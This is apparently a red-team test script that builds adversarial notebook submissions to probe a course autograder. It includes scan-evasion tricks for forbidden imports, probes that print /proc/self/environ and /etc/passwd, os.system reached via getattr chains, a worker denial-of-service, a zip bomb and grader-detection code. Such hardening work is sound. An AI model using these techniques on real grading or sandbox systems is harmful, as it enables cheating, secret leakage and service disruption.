"""Builds every adversarial case under /tmp/adv/subs/<assignment>/<student>/<assignment>.ipynb.
Run with /tmp/adv/repo/.venv/bin/python from /tmp/adv/repo/tests (uses the tests' helpers)."""
import json
import os
import re
import shutil
import sys
import unicodedata
import zipfile
from pathlib import Path

sys.path.insert(0, "/tmp/adv/repo/tests")
import nbformat  # noqa: E402
from course_grading.markers import answer_code, nbgrader_meta  # noqa: E402
from assignment_support import submission_notebook  # noqa: E402
from hostile_submissions import notebook  # noqa: E402

SUBS = Path("/tmp/adv/subs")
A1, A2, A3, A4, A5, A6 = "a1_attention", "a2_blocks", "a3_gpt", "a4_bert", "a5_t5", "a6_finetune"
KEY = {a: answer_code(submission_notebook(a, None)) for a in (A1, A2, A3, A4, A5, A6)}
CASES = {}  # (assignment, student) -> bytes


def put(assignment, student, content, extra=None):
    CASES[(assignment, student)] = (content, extra or {})


def code(source):
    return nbformat.v4.new_code_cell(source)


def after(gid, *cells):
    def edit(nb):
        ids = [nbgrader_meta(c).get("grade_id") for c in nb.cells]
        at = ids.index(gid) + 1
        nb.cells[at:at] = list(cells)
    return edit


def before(gid, *cells):
    def edit(nb):
        ids = [nbgrader_meta(c).get("grade_id") for c in nb.cells]
        at = ids.index(gid)
        nb.cells[at:at] = list(cells)
    return edit


# a module name the scan cannot read as text: built at run time
LIBNAME = "'_'.join(['course', 'lib'])"

# ------------------------------------------------------------------------------------------ a1
# (1) the course library, imported by a computed name, in parts without rules (only course_lib is refused there)
put(A1, "atk01_courselib_masks", notebook({"masks": (
    "def causal_mask(T):\n    import importlib\n"
    f"    return importlib.import_module({LIBNAME} + '.attention').causal_mask(T)\n\n"
    "def padding_mask(lengths, T):\n    import importlib\n"
    f"    return importlib.import_module({LIBNAME} + '.attention').padding_mask(lengths, T)\n")}, assignment=A1))
put(A1, "atk02_courselib_split", notebook({"split_merge": (
    "def split_heads(x, n_heads):\n    import importlib\n"
    f"    return importlib.import_module({LIBNAME} + '.attention').split_heads(x, n_heads)\n\n"
    "def merge_heads(x):\n    import importlib\n"
    f"    return importlib.import_module({LIBNAME} + '.attention').merge_heads(x)\n")}, assignment=A1))
# (2) torch's fused kernel smuggled into a global from inside another part's function body
#     (causal_mask, a part without rules): mha only reads the global; the scan never follows it
SMUGGLE_MASKS = KEY[A1]["masks"].replace(
    '    """Boolean (T, T) mask, True where key j <= query i."""\n',
    '    """Boolean (T, T) mask, True where key j <= query i."""\n    global _KERNELS\n    _KERNELS = (torch.nn.functional.scaled_dot_product_attention,)\n')
assert SMUGGLE_MASKS != KEY[A1]["masks"]
FUSED_MHA = (
    "def multi_head_attention(x_q, x_kv, W_q, W_k, W_v, W_o, n_heads, mask=None):\n"
    "    fused = _KERNELS[0]\n"
    "    B, T_q, d = x_q.shape\n"
    "    T_k = x_kv.shape[1]\n"
    "    dh = d // n_heads\n"
    "    q = (x_q @ W_q).view(B, T_q, n_heads, dh).transpose(1, 2)\n"
    "    k = (x_kv @ W_k).view(B, T_k, n_heads, dh).transpose(1, 2)\n"
    "    v = (x_kv @ W_v).view(B, T_k, n_heads, dh).transpose(1, 2)\n"
    "    if mask is None:\n"
    "        out = fused(q, k, v)\n"
    "    else:\n"
    "        if mask.dim() == 3:\n"
    "            mask = mask.unsqueeze(1)\n"
    "        has_key = mask.any(-1, keepdim=True)\n"
    "        out = fused(q, k, v, attn_mask=mask | ~has_key).masked_fill(~has_key, 0.0)\n"
    "    return out.transpose(1, 2).reshape(B, T_q, d) @ W_o\n")
put(A1, "atk03_smuggled_global_mha", notebook({"masks": SMUGGLE_MASKS, "mha": FUSED_MHA}, assignment=A1))
# (2b) sdpa itself from torch: the release's own last cell (the plot) calls the student's causal_mask
#      while the notebook runs, before any test, so the global is set before test_sdpa
SDPA_TORCH = (
    "def scaled_dot_product_attention(q, k, v, mask=None):\n"
    "    fused = _KERNELS[0]\n"
    "    eye = torch.eye(k.shape[-2], dtype=q.dtype).expand(*k.shape[:-2], k.shape[-2], k.shape[-2])\n"
    "    if mask is None:\n"
    "        return fused(q, k, v), fused(q, k, eye)\n"
    "    has_key = mask.any(dim=-1, keepdim=True)\n"
    "    safe = mask | ~has_key\n"
    "    return fused(q, k, v, attn_mask=safe).masked_fill(~has_key, 0.0), fused(q, k, eye, attn_mask=safe).masked_fill(~has_key, 0.0)\n")
put(A1, "atk31_sdpa_via_release_cell", notebook({"masks": SMUGGLE_MASKS, "sdpa": SDPA_TORCH, "mha": FUSED_MHA}, assignment=A1))
# (2c) sdpa: an own version good enough for the visible tests only (no max subtraction: overflows on
#      large scores), switched to torch's kernel once causal_mask (graded after sdpa's visible tests,
#      before any hidden check) has smuggled it into a global
NAIVE_THEN_TORCH = SDPA_TORCH.replace("    fused = _KERNELS[0]\n", "    try:\n        fused = _KERNELS[0]\n    except NameError:\n        fused = None\n    if fused is None:\n"
    "        scores = q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])\n        e = scores.exp()\n        if mask is not None:\n            e = e * mask\n"
    "        s = e.sum(-1, keepdim=True)\n        w = e / torch.where(s == 0, torch.ones_like(s), s)\n        return w @ v, w\n")
assert NAIVE_THEN_TORCH != SDPA_TORCH
put(A1, "atk34_naive_then_smuggled_sdpa", notebook({"masks": SMUGGLE_MASKS, "sdpa": NAIVE_THEN_TORCH}, assignment=A1))
put(A1, "base34_naive_sdpa_alone", notebook({"sdpa": NAIVE_THEN_TORCH.replace("_KERNELS[0]", "_NO_SUCH_NAME[0]")}, assignment=A1))
# (3) the same kernel captured in a default argument of the student's causal_mask, reached from mha
#     through the *replaced* name causal_mask (the scan does not follow names a reference replaces)
CAPTURE_MASKS = KEY[A1]["masks"].replace("def causal_mask(T):", "def causal_mask(T, _k=torch.nn.functional.scaled_dot_product_attention):\n    if T is None:\n        return _k")
put(A1, "atk04_replaced_name_capture", notebook({"masks": CAPTURE_MASKS, "mha": FUSED_MHA.replace(
    "mask=None):\n    fused = _KERNELS[0]", "mask=None, _cm=causal_mask):\n    fused = _cm(None)")}, assignment=A1))
# (4) what the jail shows, printed into the feedback (leak probe) from an added cell
LEAK = (
    "import os, glob\n"
    "for _p in ['/proc/self/mountinfo', '/proc/1/cmdline', '/proc/self/cgroup', '/proc/self/environ', '/etc/passwd']:\n"
    "    try:\n        print(_p, open(_p, 'rb').read()[:3000])\n    except Exception as _e:\n        print(_p, type(_e).__name__, _e)\n"
    "print(sorted(os.listdir('/')))\n"
    "import time\n_t0 = time.time()\n_hits = []\n"
    "for _root, _dirs, _files in os.walk('/'):\n"
    "    if time.time() - _t0 > 8 or _root.startswith(('/proc', '/sys', '/usr')):\n        _dirs[:] = []\n        continue\n"
    "    _hits += [os.path.join(_root, _f) for _f in _files if _f.endswith(('.ipynb', '.db', '.csv', '_checks.py', 'reference_parts.py', '.json'))]\n"
    "print(len(_hits), [h for h in _hits if 'site-packages' not in h][:60])\n"
)
put(A1, "atk05_leak_probe", notebook(None, after("masks", code(LEAK)), assignment=A1))
# (5) denial of service against the trusted worker through the reference proxies: during the
#     visible tests of masks, the correct sdpa/split/merge are proxies that run in the worker on
#     whatever the student passes. Ask for huge work there.
PROXY_DOS = KEY[A1]["masks"].replace(
    '    """Boolean (T, T) mask, True where key j <= query i."""\n',
    '    """Boolean (T, T) mask, True where key j <= query i."""\n'
    '    global _DONE\n'
    '    if not globals().get("_DONE"):\n'
    '        _DONE = True\n'
    '        for _n in (12000, 16000, 20000, 24000):\n'
    '            try:\n'
    '                scaled_dot_product_attention(torch.zeros(8, _n, 1), torch.zeros(8, _n, 1), torch.zeros(8, _n, 1))\n'
    '            except BaseException as _e:\n'
    '                print("proxy", _n, type(_e).__name__)\n')
put(A1, "atk06_proxy_worker_dos", notebook({"masks": PROXY_DOS}, assignment=A1))

# ------------------------------------------------------------------------------------------ a2
put(A2, "atk07_courselib_sinusoidal", notebook({"sinusoidal": (
    "def sinusoidal_encoding(T, d_model):\n    import importlib\n"
    f"    return importlib.import_module({LIBNAME} + '.blocks').sinusoidal_encoding(T, d_model)\n")}, assignment=A2))
# torch's layer norm smuggled from sinusoidal_encoding's body into pre_ln_block (which forbids it)
SMUG_SIN = KEY[A2]["sinusoidal"].replace(
    '    """(T, d_model) float tensor of sinusoidal encodings for positions 0..T-1; d_model is even."""\n',
    '    """(T, d_model) float tensor of sinusoidal encodings for positions 0..T-1; d_model is even."""\n    global _NORMS\n    _NORMS = (torch.native_layer_norm,)\n')
assert SMUG_SIN != KEY[A2]["sinusoidal"]
PRE_LN_TORCH = KEY[A2]["pre_ln"].replace('layer_norm(x, p["ln1_gain"], p["ln1_bias"])', '_NORMS[0](x, (x.shape[-1],), p["ln1_gain"], p["ln1_bias"], 1e-5)[0]').replace(
    'layer_norm(x, p["ln2_gain"], p["ln2_bias"])', '_NORMS[0](x, (x.shape[-1],), p["ln2_gain"], p["ln2_bias"], 1e-5)[0]')
assert PRE_LN_TORCH.count("_NORMS[0]") == 2
put(A2, "atk08_smuggled_global_preln", notebook({"sinusoidal": SMUG_SIN, "pre_ln": PRE_LN_TORCH}, assignment=A2))
# layer_norm itself: an own version with eps outside the square root (passes the visible tests), switched to
# torch's kernel once sinusoidal_encoding (graded after, before any hidden check) has smuggled it in
EPS_OUTSIDE = KEY[A2]["layer_norm"].replace("torch.sqrt(var + eps)", "(torch.sqrt(var) + eps)")
assert EPS_OUTSIDE != KEY[A2]["layer_norm"]
LN_SWITCH = EPS_OUTSIDE.replace('    mean = x.mean(dim=-1, keepdim=True)  # (..., 1)\n',
    '    try:\n        return _NORMS[0](x, (x.shape[-1],), gain, bias, eps)[0]\n    except NameError:\n        pass\n    mean = x.mean(dim=-1, keepdim=True)  # (..., 1)\n')
assert LN_SWITCH != EPS_OUTSIDE
put(A2, "atk35_buggy_then_smuggled_ln", notebook({"sinusoidal": SMUG_SIN, "layer_norm": LN_SWITCH}, assignment=A2))
put(A2, "base35_buggy_ln_alone", notebook({"layer_norm": EPS_OUTSIDE}, assignment=A2))
# layer norm from scipy's z-score (a library's normalisation outside the forbidden list)
put(A2, "atk09_scipy_zscore", notebook({"layer_norm": (
    "from scipy import stats\n\n"
    "def layer_norm(x, gain, bias, eps=1e-5):\n"
    "    z = torch.as_tensor(stats.zscore(x.detach().double().numpy(), axis=-1)).to(x.dtype)\n"
    "    return z * gain + bias\n")}, assignment=A2))
# wrong beyond what the hidden check draws (T <= 80): positions past 96 all get position 96's code
put(A2, "atk10_coverage_sinusoidal", notebook({"sinusoidal": KEY[A2]["sinusoidal"].replace(
    "position = torch.arange(T, dtype=torch.float32).unsqueeze(1)", "position = torch.arange(T, dtype=torch.float32).clamp(max=96).unsqueeze(1)")}, assignment=A2))
# nbgrader's own markers in an answer cell (a hidden-tests block that never ends)
put(A2, "atk11_nbgrader_markers", notebook({"sinusoidal": KEY[A2]["sinusoidal"].replace("    return pe\n", "    return pe * 0\n") +
    "\n# ### BEGIN HIDDEN TESTS\n### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION\n# YOUR CODE HERE\n"}, assignment=A2))

# ------------------------------------------------------------------------------------------ a3
def lib_wrapper(signature, call, module):
    name = signature.split("(")[0]
    return f"def {signature}:\n    import importlib\n    return importlib.import_module({LIBNAME} + '.{module}').{name}({call})\n"
put(A3, "atk12_courselib_sampling", notebook({
    "lm_loss": lib_wrapper("lm_loss(logits, idx)", "logits, idx", "gpt"),
    "top_k": lib_wrapper("top_k_filter(logits, k)", "logits, k", "generation"),
    "top_p": lib_wrapper("top_p_filter(logits, p)", "logits, p", "generation")}, assignment=A3))
SMUG_TOPK = KEY[A3]["top_k"].replace("def top_k_filter(logits, k):\n", "def top_k_filter(logits, k):\n    global _KERNELS\n    _KERNELS = (F.scaled_dot_product_attention,)\n")
assert SMUG_TOPK != KEY[A3]["top_k"]
CACHED_TORCH = KEY[A3]["cached_step"].replace(
    "    weights = torch.softmax(q @ k.transpose(-2, -1) / math.sqrt(d_head), dim=-1)  # (B, h, 1, P + 1)\n    out = (weights @ v).transpose(1, 2).reshape(B, 1, d) @ W_o  # (B, 1, d)\n",
    "    out = _KERNELS[0](q, k, v).transpose(1, 2).reshape(B, 1, d) @ W_o  # (B, 1, d)\n")
assert CACHED_TORCH != KEY[A3]["cached_step"]
put(A3, "atk13_smuggled_global_cached", notebook({"top_k": SMUG_TOPK, "cached_step": CACHED_TORCH}, assignment=A3))
# a helper with a default-captured kernel in a part without rules, called by cached_step (probe: should be held)
put(A3, "atk14_helper_in_free_part", notebook({"top_k": KEY[A3]["top_k"] + "\n\ndef _fast(q, k, v, _f=F.scaled_dot_product_attention):\n    return _f(q, k, v)\n",
    "cached_step": CACHED_TORCH.replace("_KERNELS[0](q, k, v)", "_fast(q, k, v)")}, assignment=A3))
# two folders whose names differ only in Unicode normalisation (NFC vs NFD): the victim is correct
VICTIM = unicodedata.normalize("NFC", "vic15_café")
ATTACKER = unicodedata.normalize("NFD", "vic15_café")
assert VICTIM != ATTACKER
put(A3, VICTIM, notebook(assignment=A3))
put(A3, ATTACKER, (Path("/tmp/adv/repo/assignments/release") / A3 / f"{A3}.ipynb").read_bytes())
# a student id that differs only by case from another's
put(A3, "atk16_case", notebook(assignment=A3))
put(A3, "ATK16_case", (Path("/tmp/adv/repo/assignments/release") / A3 / f"{A3}.ipynb").read_bytes())

# ------------------------------------------------------------------------------------------ a4
put(A4, "atk17_courselib_wordpiece_mlm", notebook({
    "wordpiece": lib_wrapper('wordpiece(word, vocab, unk_token="[UNK]", max_chars=100)', "word, vocab, unk_token, max_chars", "wordpiece"),
    "mlm_loss": lib_wrapper("mlm_loss(logits, labels)", "logits, labels", "bert")}, assignment=A4))
SMUG_WP = KEY[A4]["wordpiece"].replace('def wordpiece(word, vocab, unk_token="[UNK]", max_chars=100):\n',
    'def wordpiece(word, vocab, unk_token="[UNK]", max_chars=100):\n    global _KERNELS\n    _KERNELS = (F.scaled_dot_product_attention,)\n', 1)
assert SMUG_WP != KEY[A4]["wordpiece"]
ENC_TORCH = KEY[A4]["encoder_block"].replace(
    "    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)  # (B, h, T, T)\n"
    "    if attention_mask is not None:\n"
    "        padded = attention_mask[:, None, None, :] == 0  # (B, 1, 1, T): the padded keys\n"
    "        scores = scores.masked_fill(padded, float(\"-inf\"))\n"
    "    attended = (torch.softmax(scores, dim=-1) @ v).transpose(1, 2).reshape(B, T, d)\n",
    "    keep = None if attention_mask is None else attention_mask[:, None, None, :] != 0\n"
    "    attended = _KERNELS[0](q, k, v, attn_mask=keep).transpose(1, 2).reshape(B, T, d)\n")
assert ENC_TORCH != KEY[A4]["encoder_block"]
put(A4, "atk18_smuggled_global_encoder", notebook({"wordpiece": SMUG_WP, "encoder_block": ENC_TORCH}, assignment=A4))
# the same, but the kernel reaches the global through an exception's attribute (no global statement)
SMUG_WP2 = KEY[A4]["wordpiece"].replace('def wordpiece(word, vocab, unk_token="[UNK]", max_chars=100):\n',
    'def wordpiece(word, vocab, unk_token="[UNK]", max_chars=100):\n    _BOX.append(torch.nn.MultiheadAttention)\n', 1)
SMUG_WP2 = KEY[A4]["wordpiece"].replace('def wordpiece(word, vocab, unk_token="[UNK]", max_chars=100):\n',
    'def wordpiece(word, vocab, unk_token="[UNK]", max_chars=100):\n    _BOX.append(F.scaled_dot_product_attention)\n', 1)
put(A4, "atk19_box_list_encoder", notebook({"wordpiece": "_BOX = []\n\n" + SMUG_WP2, "encoder_block": ENC_TORCH.replace("_KERNELS[0]", "_BOX[0]")}, assignment=A4))
# output of every C0 control but ESC and of the C1 range, from a visible run (feedback / replay probe)
put(A4, "atk20_c1_controls_output", notebook({"pair_inputs": KEY[A4]["pair_inputs"] + "\nprint(''.join(chr(c) for c in range(0x80, 0xa0)) + '\\u2028\\u2029\\ufeff\\u202e')\n"}, assignment=A4))

# ------------------------------------------------------------------------------------------ a5
put(A5, "atk21_courselib_bucket_spans", notebook({
    "rel_bucket": lib_wrapper("relative_position_bucket(relative_position, bidirectional=True, num_buckets=32, max_distance=128)", "relative_position, bidirectional, num_buckets, max_distance", "blocks"),
    "span_corruption": lib_wrapper("span_corruption(tokens, noise_mask, vocab_size, eos_id=EOS_ID)", "tokens, noise_mask, vocab_size, eos_id", "t5")}, assignment=A5))
SMUG_RB = KEY[A5]["rel_bucket"].replace("def relative_position_bucket(relative_position, bidirectional=True, num_buckets=32, max_distance=128):\n",
    "def relative_position_bucket(relative_position, bidirectional=True, num_buckets=32, max_distance=128):\n    global _KERNELS\n    _KERNELS = (F.scaled_dot_product_attention,)\n", 1)
assert SMUG_RB != KEY[A5]["rel_bucket"]
CROSS_TORCH = KEY[A5]["cross_attention"].replace(
    "    scores = q @ k.transpose(-2, -1)  # (B, h, 1, S): T5 does not scale\n"
    "    if memory_mask is not None:\n"
    "        scores = scores.masked_fill(memory_mask[:, None, None, :] == 0, float(\"-inf\"))\n"
    "    attended = (torch.softmax(scores, dim=-1) @ v).transpose(1, 2).reshape(B, 1, n_heads * d_kv)\n",
    "    keep = None if memory_mask is None else memory_mask[:, None, None, :] != 0\n"
    "    attended = _KERNELS[0](q, k, v, attn_mask=keep, scale=1.0).transpose(1, 2).reshape(B, 1, n_heads * d_kv)\n")
assert CROSS_TORCH != KEY[A5]["cross_attention"]
put(A5, "atk22_smuggled_global_cross", notebook({"rel_bucket": SMUG_RB, "cross_attention": CROSS_TORCH}, assignment=A5))
# nbgrader's markers and a fake "points" comment in a wrong answer
put(A5, "atk23_solution_markers", notebook({"beam_search": "### BEGIN SOLUTION\n### END SOLUTION\n### BEGIN HIDDEN TESTS\n" + KEY[A5]["beam_search"].replace("def beam_search_step", "def _unused") + "\ndef beam_search_step(*a, **k):\n    raise NotImplementedError\n"}, assignment=A5))
# an attachment, a raw cell, widget state and a huge output blob in the notebook's JSON (format probe: key answers)
def fat(nb):
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": "X" * 1000}}}}
    md = nbformat.v4.new_markdown_cell("![x](attachment:x.png)")
    md.attachments = {"x.png": {"image/png": "iVBORw0KGgo=" * 100000}}
    nb.cells.insert(1, md)
    nb.cells.insert(2, nbformat.v4.new_raw_cell("import os\nos._exit(3)\n"))
    for c in nb.cells:
        if c.cell_type == "code":
            c.outputs = [nbformat.v4.new_output("stream", name="stdout", text="A" * 10_000_000)]
            break
put(A5, "atk24_fat_notebook_format", notebook(None, fat, assignment=A5))
# an added cell above the set-up cell that ran cleanly but takes away what the set-up needs (not torch): builtins
put(A5, "atk25_setup_sabotage_builtins", notebook({"span_corruption": KEY[A5]["span_corruption"].replace("eos_id])", "0])")},
    before("setup", code("import builtins\n_real = builtins.__import__\n\ndef _imp(name, *a, **k):\n    if name == 'math':\n        raise ImportError('no math today')\n    return _real(name, *a, **k)\n\nbuiltins.__import__ = _imp\n")), assignment=A5))

# ------------------------------------------------------------------------------------------ a6
BUILTIN_IMPORT = "_imp = getattr(fnmatch, '__builtins__')['__imp' + 'ort__']\n"
put(A6, "atk26_courselib_pool", notebook({"pooled_head": (
    BUILTIN_IMPORT +
    "_ft = _imp('_'.join(['course', 'lib']) + '.finetune', None, None, ['pool'])\n\n"
    "def classify(hidden, attention_mask, weight, bias, pooling):\n"
    "    if pooling not in ('cls', 'mean', 'last'):\n        raise ValueError(pooling)\n"
    "    return _ft.pool(hidden, attention_mask, pooling) @ weight.T + bias\n")}, assignment=A6))
put(A6, "atk27_peft_by_builtins", notebook({"lora_linear": BUILTIN_IMPORT + "_pe = _imp('pe' + 'ft')\n_unused = _pe.LoraConfig\n\n" + KEY[A6]["lora_linear"]}, assignment=A6))
# a zip bomb and junk beside the notebook in the student's folder (intake DoS probe)
put(A6, "atk28_zipbomb_folder", notebook(assignment=A6), {"bomb.zip": "BOMB", "a6_finetune (1).ipynb": notebook({"adapter": "raise SystemExit\n"}, assignment=A6)})
put(A6, "atk29_leak_in_driver_part", notebook({"probe_step": KEY[A6]["probe_step"] + "\n" + LEAK}, assignment=A6))
# the scan reads getattr chains; a6 (no forbidden functions) does not count lookups: reach os.system through warnings
put(A6, "atk30_os_via_lookup", notebook({"adapter": KEY[A6]["adapter"] + (
    "\n_o = getattr(warnings, 's' + 'ys').modules['o' + 's']\n"
    "_fn = getattr(_o, 'sys' + 'tem')\n"
    "print('system ->', _fn('id; ls / | head -3; echo hi > /tmp/x.txt; cat /tmp/x.txt'))\n")}, before("adapter", code("import warnings\n")), assignment=A6))

# ------------------------------------------------------------------------------------ later additions
# grader detection (an accepted limitation): correct only inside the grader's jail, garbage elsewhere
put(A3, "atk32_detect_grader", notebook({"lm_loss": KEY[A3]["lm_loss"].replace("    return F.cross_entropy(predictions, targets)\n",
    "    in_grader = b'student_server' in open('/proc/1/cmdline', 'rb').read()\n"
    "    return F.cross_entropy(predictions, targets) if in_grader else torch.tensor(123.0)\n")}, assignment=A3))
# added cells whose cell ids are those of the release's test cell and answer cell, and of the grader's own mark
def id_clash(nb):
    ids = [nbgrader_meta(c).get("grade_id") for c in nb.cells]
    a = code("print('added 1')\n")
    a["id"] = "eda0671c"  # test_sinusoidal's cell id
    b = code("print('added 2')\n")
    b["id"] = "8f2d9688"  # the sinusoidal answer cell's id
    c = code("print('added 3')\n")
    c["id"] = "student-cell-1"
    at = ids.index("sinusoidal") + 1
    nb.cells[at:at] = [a, b, c]
raw = json.loads(notebook({"layer_norm": KEY[A2]["layer_norm"].replace("return", "return 0 *", 1)}, id_clash, assignment=A2))
put(A2, "atk33_cell_id_clash", json.dumps(raw).encode())
# ------------------------------------------------------------------------------------ controls
put(A1, "ctl01_einsum_style", notebook({
    "sdpa": ("def scaled_dot_product_attention(q, k, v, mask=None):\n"
             "    scores = torch.einsum('...qd,...kd->...qk', q, k) * q.shape[-1] ** -0.5\n"
             "    if mask is not None:\n"
             "        scores = scores.masked_fill(~mask, float('-inf'))\n"
             "    m = scores.amax(-1, keepdim=True).nan_to_num(0.0, neginf=0.0)\n"
             "    e = (scores - m).exp()\n"
             "    s = e.sum(-1, keepdim=True)\n"
             "    w = torch.where(s > 0, e / s.clamp(min=torch.finfo(e.dtype).tiny), torch.zeros_like(e))\n"
             "    return torch.einsum('...qk,...kd->...qd', w, v), w\n"),
    "masks": "def causal_mask(T):\n    i = torch.arange(T)\n    return i[:, None] >= i[None, :]\n\n\ndef padding_mask(lengths, T):\n    return (torch.arange(T) < lengths.unsqueeze(-1)).unsqueeze(-2)\n"}, assignment=A1))
put(A2, "ctl02_float64_inside", notebook({
    "layer_norm": ("def layer_norm(x, gain, bias, eps=1e-5):\n"
                   "    x64 = x.double()\n    mu = x64.mean(-1, keepdim=True)\n    var = ((x64 - mu) ** 2).mean(-1, keepdim=True)\n"
                   "    return ((x64 - mu) / torch.sqrt(var + eps) * gain.double() + bias.double()).to(x.dtype)\n"),
    "sinusoidal": ("def sinusoidal_encoding(T, d_model):\n    pe = torch.empty(T, d_model)\n"
                   "    for pos in range(T):\n        for i in range(0, d_model, 2):\n"
                   "            a = pos / math.pow(10000.0, i / d_model)\n            pe[pos, i] = math.sin(a)\n            pe[pos, i + 1] = math.cos(a)\n    return pe\n")}, assignment=A2))
put(A3, "ctl03_manual_loss_and_sort", notebook({
    "lm_loss": ("def lm_loss(logits, idx):\n    logp = logits[:, :-1].log_softmax(-1)\n"
                "    return -logp.gather(-1, idx[:, 1:].unsqueeze(-1)).mean()\n"),
    "top_k": ("def top_k_filter(logits, k):\n    values, _ = logits.sort(dim=-1, descending=True)\n"
              "    return torch.where(logits < values[..., k - 1:k], torch.full_like(logits, float('-inf')), logits)\n")}, assignment=A3))
def nb40(content):
    raw = json.loads(content)
    raw["nbformat_minor"] = 4
    for c in raw["cells"]:
        c.pop("id", None)
    return json.dumps(raw, indent=2).encode()
put(A4, "ctl04_nbformat44_no_ids", nb40(notebook(None, after("wordpiece", code("%matplotlib inline\nimport matplotlib.pyplot as plt\nfrom collections import Counter\nprint(Counter('unaffable'))\n")), assignment=A4)))
def crlf(nb):
    for c in nb.cells:
        if nbgrader_meta(c).get("solution"):
            c.source = c.source.replace("\n", "\r\n")
put(A5, "ctl05_crlf_and_helpers", notebook(None, lambda nb: (after("rel_bucket", code("def _show(t):\n    print(t.tolist())\n\n_show(relative_position_bucket(torch.arange(-5, 6)))\n"))(nb), crlf(nb)), assignment=A5))
put(A6, "ctl06_functional_style", notebook({
    "pooled_head": ("def classify(hidden, attention_mask, weight, bias, pooling):\n"
                    "    m = attention_mask.to(hidden.dtype)\n"
                    "    if pooling == 'cls':\n        pooled = hidden[:, 0]\n"
                    "    elif pooling == 'mean':\n        pooled = torch.einsum('btd,bt->bd', hidden, m) / m.sum(1, keepdim=True)\n"
                    "    elif pooling == 'last':\n        pooled = hidden.gather(1, (attention_mask.sum(1) - 1).view(-1, 1, 1).expand(-1, 1, hidden.shape[-1])).squeeze(1)\n"
                    "    else:\n        raise ValueError(pooling)\n"
                    "    return F.linear(pooled, weight, bias)\n")}, assignment=A6))


def zip_bomb(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("a6_finetune.ipynb", "w", force_zip64=True) as f:
            chunk = b"\0" * 2**20
            for _ in range(1024):  # 1 GiB of zeros, about 1 MiB compressed
                f.write(chunk)


if __name__ == "__main__":
    if SUBS.exists():
        shutil.rmtree(SUBS)
    for (assignment, student), (content, extra) in CASES.items():
        folder = SUBS / assignment / student
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{assignment}.ipynb").write_bytes(content)
        for name, data in extra.items():
            if data == "BOMB":
                zip_bomb(folder / name)
            else:
                (folder / name).write_bytes(data)
    print(len(CASES), "notebooks")
